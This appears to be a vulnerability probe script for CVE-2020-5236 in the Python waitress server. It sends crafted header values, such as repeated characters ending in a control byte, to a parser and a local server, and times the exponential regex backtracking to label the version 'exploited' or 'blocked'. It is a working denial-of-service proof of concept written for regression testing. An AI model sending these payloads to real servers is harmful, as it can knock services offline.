# /// vertice-probe
# id = "PYSEC-2020-155"
# aliases = ["CVE-2020-5236", "GHSA-73m2-3pwg-5fgc"]
# package = "waitress"
# summary = "Checking a header's value backtracks exponentially when a bad character ends it, a denial of service."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-400", "CWE-1333"]
# kind = "redos"
# symbols = ["waitress.serve", "waitress.create_server", "waitress.serve_paste", "waitress.parser.HTTPRequestParser"]
#
# [[affected]]
# package = "waitress"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "1.4.3" }] }]
#
# [cases]
# attack = "time to refuse a header of letters with a control character at the end grows exponentially"
# [cases.variants]
# server = "the same growth in a running server for bytes above 7F with a DEL at the end"
# [cases.controls]
# headers = "ordinary headers, empty and with blanks inside, are read"
#
# [test]
# vulnerable = "1.4.2"
# fixed = "1.4.3"
# ///
"""CVE-2020-5236: exponential backtracking over header values.

The range of the advisory starts at 0, though only 1.4.2 has the pattern.
"""

import json
import logging
import socket
import sys
import threading
import time
import warnings

warnings.simplefilter("ignore")


def judge(work, small, large, limit, what):
    """Is the CPU time for `large` more than `limit` times that for `small` (the least of several runs each)?"""
    runs, spent, clear = {small: [], large: []}, 0.0, False
    # In turn, so that a busy neighbour slows both; and more of them while it is quick or not clear.
    while len(runs[large]) < 3 or (spent < 5 and not clear) or (spent < 0.2 and len(runs[large]) < 50):
        for size in (small, large, small):
            begin = time.process_time()
            answer = work(size)
            runs[size].append(time.process_time() - begin)
            spent += runs[size][-1]
        # Below 2 ms the clock's noise is larger than the growth.
        ratio = min(runs[large]) / max(min(runs[small]), 0.002)
        clear = not limit / 1.5 < ratio < limit * 1.5
    evidence = "%d -> %d %s: %.1f ms -> %.1f ms CPU, x%.1f (limit x%g); %s" % (
        small,
        large,
        what,
        min(runs[small]) * 1000,
        min(runs[large]) * 1000,
        ratio,
        limit,
        answer,
    )
    return ("exploited" if ratio > limit else "blocked"), evidence


def request(value):
    return b"GET / HTTP/1.1\r\nHost: x\r\nX-Note: " + value + b"\r\n\r\n"


def parse(data):
    from waitress.adjustments import Adjustments
    from waitress.parser import HTTPRequestParser

    parser = HTTPRequestParser(Adjustments())
    parser.received(data)
    return parser


def attack():
    def refuse(count):
        error = parse(request(b"x" * count + b"\x10")).error
        if error is None or error.code != 400:
            raise RuntimeError("the request was not refused: %r" % error)
        return "refused"

    return judge(refuse, 22, 28, 8, "characters")


def server():
    import waitress

    logging.getLogger("waitress").addHandler(logging.NullHandler())
    made = waitress.create_server(lambda environ, start: [], host="127.0.0.1", port=0, threads=1)
    address = ("127.0.0.1", made.socket.getsockname()[1])
    threading.Thread(target=made.run, daemon=True).start()

    def refuse(count):
        client = socket.create_connection(address, 20)
        client.sendall(request(b"\xe9" * count + b"\x7f"))
        answer = client.recv(65536)
        client.close()
        if b" 400 " not in answer.split(b"\r\n")[0]:
            raise RuntimeError("the request was not refused: %r" % answer[:80])
        return "refused"

    return judge(refuse, 22, 28, 8, "characters")


def headers():
    parser = parse(b"GET /a HTTP/1.1\r\nHost: x\r\nX-Empty:\r\nX-Words: one  two\tthree \r\nX-Accent: \xe9\r\n\r\n")
    wanted = {"HOST": "x", "X_EMPTY": "", "X_WORDS": "one  two\tthree", "X_ACCENT": "\xe9"}
    good = parser.error is None and parser.path == "/a" and parser.headers == wanted
    return ("works", "four headers read") if good else ("broken", "%r %r" % (parser.error, parser.headers))


CASES = {"attack": attack, "server": server, "headers": headers}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
